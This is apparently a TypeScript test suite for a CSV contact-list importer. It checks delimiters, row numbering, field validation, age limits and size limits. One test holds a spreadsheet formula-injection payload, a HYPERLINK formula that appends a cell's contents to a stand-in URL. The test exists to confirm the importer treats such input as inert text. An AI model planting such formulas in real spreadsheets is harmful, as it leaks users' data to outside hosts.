import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readers } from '../../src/language/index.ts';
import { type ListRow, type RowFault, readList } from '../../src/people/index.ts';

const band = (value: string, from: number | undefined, to: number | undefined, ...names: string[]) => ({ value, names, from, to });
const listReaders = {
  phone: readers.phone,
  ageBands: [band('under-13', undefined, 12), band('13-15', 13, 15, '13 to 15'), band('25-plus', 25, undefined, '25 or over', '25+')],
  places: [
    { value: 'community', names: ['In a town, city or village'] },
    { value: 'just-left', names: [] },
  ],
};

function read(text: string): { rows: (ListRow | RowFault)[]; leftOut: string[] } {
  const list = readList(text, listReaders, 'contact');
  if ('fault' in list) throw new Error(list.fault);
  return list;
}
const refused = (text: string) => {
  const list = readList(text, listReaders, 'contact');
  return 'fault' in list ? list : null;
};
const faults = (text: string) => read(text).rows.map((row) => ('fault' in row ? row.fault : 'fits'));
const sam = { channel: 'email', value: 'sam@example.org' };
const mobile = { channel: 'sms', value: '+447911123456' };

describe('A list', () => {
  it('has headings in any case and any order, and whatever else it holds is not read', () => {
    const { rows, leftOut } = read('Offence,E-Mail,NAME,Phone,Age band,PLACE\nx,Sam@Example.org, Sam ,07911 123456,13 to 15,Community\n');
    expect(rows).toEqual([{ row: 2, name: 'Sam', contacts: [sam, mobile], ageBand: '13-15', place: 'community' }]);
    expect(leftOut).toEqual(['Offence']);
    expect(JSON.stringify(rows)).not.toContain('x,');
  });

  it('is read as spreadsheets write it: with a mark at its head, semicolons, tabs, other line ends', () => {
    const expected = [{ row: 2, name: 'Sam, the second', contacts: [sam], ageBand: null, place: null }];
    for (const text of [
      '\uFEFFname,email\r\n"Sam, the second",sam@example.org\r\n',
      '\uFEFFname;email\r\nSam, the second;sam@example.org\r\n',
      'sep=;\r\nname;email\r\nSam, the second;sam@example.org',
      '\uFEFFsep=;\r\nname;email\r\nSam, the second;sam@example.org',
      'name\temail\nSam, the second\tsam@example.org\n',
      'name,email\r"Sam, the second",sam@example.org\r',
    ])
      expect([text, read(text).rows]).toEqual([text, expected]);
  });

  it('counts rows as a spreadsheet does: a break in quotes is no row, a blank row is one', () => {
    const { rows } = read('name,email\n"Sam\nSmith",sam@example.org\n,\n\n" ",\nPat,pat@example.org\n');
    expect(rows.map((row) => [row.row, 'name' in row && row.name])).toEqual([
      [2, 'Sam Smith'],
      [6, 'Pat'],
    ]);
  });

  it('takes what looks like a formula for the text that it is', () => {
    const formula = '=HYPERLINK("http://example.org/?"&A1,"Sam")';
    const { rows } = read(`name,email\n"${formula.replaceAll('"', '""')}",sam@example.org\n+1-2,pat@example.org\n`);
    expect(rows).toMatchObject([{ name: formula }, { name: '+1-2' }]);
  });

  it('says what is wrong with a row, and takes the others', () => {
    expect(
      faults(
        [
          'name,email,phone,age_band,place',
          'a,sam@example.org,,,',
          'b,,,,',
          'c,sam@example,,,',
          'd,,4.47911E+11,,',
          'e,e@example.org,,old,',
          'f,f@example.org,,12,',
          'g,g@example.org,,Under-13,',
          'h,h@example.org,,,Mars',
          `${'i'.repeat(101)},i@example.org,,,`,
          'Smith, J,j@example.org,,13-15,community',
          'k,k@example.org',
          'l,l@example.org,,25,just_left',
        ].join('\n'),
      ),
    ).toEqual([
      ...['fits', 'no_contact', 'bad_email', 'bad_phone', 'bad_age', 'too_young', 'too_young', 'bad_place', 'long_name', 'cells'],
      ...['fits', 'fits'],
    ]);
  });

  it('is refused as a whole when nobody could say what it is', () => {
    expect(refused('')).toMatchObject({ fault: 'no_columns' });
    expect(refused('list.csv')).toMatchObject({ fault: 'no_columns' });
    expect(refused('name,age_band\nSam,13-15')).toMatchObject({ fault: 'no_columns' });
    expect(refused('email\n\n , \n')).toMatchObject({ fault: 'no_rows' });
    expect(refused('email,E-mail\na@example.org,b@example.org')).toMatchObject({ fault: 'column_twice', fills: { column: 'email' } });
    expect(refused('name,email\n"Sam,sam@example.org\nPat,pat@example.org\n')).toMatchObject({ fault: 'not_csv' });
    expect(refused(Buffer.from('name,email\nZoë,z@example.org', 'latin1').toString('utf8'))).toMatchObject({ fault: 'not_text' });
    expect(refused(Buffer.from('email\na@example.org', 'utf16le').toString('utf8'))).toMatchObject({ fault: 'not_text' });
    expect(refused(`email\n${'a@example.org\n'.repeat(10_001)}`)).toMatchObject({ fault: 'too_many', fills: { limit: '10000' } });
    expect(read(`email\n${'a@example.org\n'.repeat(10_000)}`).rows).toHaveLength(10_000);
  });

  it('keeps nothing that a database or a terminal would stumble over', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (name) => {
        const cell = `"${name.replaceAll('"', '""')}"`;
        const list = readList(`name,email\n${cell},sam@example.org`, listReaders, 'contact');
        if ('fault' in list) {
          expect(name).toMatch(/[\0\uFFFD]/);
          return;
        }
        const [row] = list.rows as [ListRow];
        expect(row.name ?? '').not.toMatch(/\p{Cc}/u);
        expect(row.contacts).toEqual([sam]);
      }),
    );
  });

  it('never ends in anything but rows and sentences', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('name', 'email', ',', ';', '"', '\n', '\r', '=1', 'a@b.org', ' ', '07911 123456', '\uFEFF', 'é'), {
          maxLength: 40,
        }),
        (parts) => {
          expect(readList(parts.join(''), listReaders, 'contact')).toBeTypeOf('object');
        },
      ),
      { numRuns: 500 },
    );
  });

  it('by name: a row needs one, or a contact', () => {
    const list = readList('name,email,age_band\nSam,,\n,pat@example.org,\n,,13-15\n', listReaders, 'name');
    expect('fault' in list || list.rows).toMatchObject([
      { row: 2, name: 'Sam', contacts: [] },
      { row: 3, name: null, contacts: [{ value: 'pat@example.org' }] },
      { row: 4, fault: 'no_name' },
    ]);
    expect(readList('age_band\n13-15', listReaders, 'name')).toMatchObject({
      fault: 'no_columns',
      fills: { needed: 'name or email or phone' },
    });
    expect(refused('name\nSam')).toMatchObject({ fault: 'no_columns', fills: { needed: 'email or phone' } });
  });
});
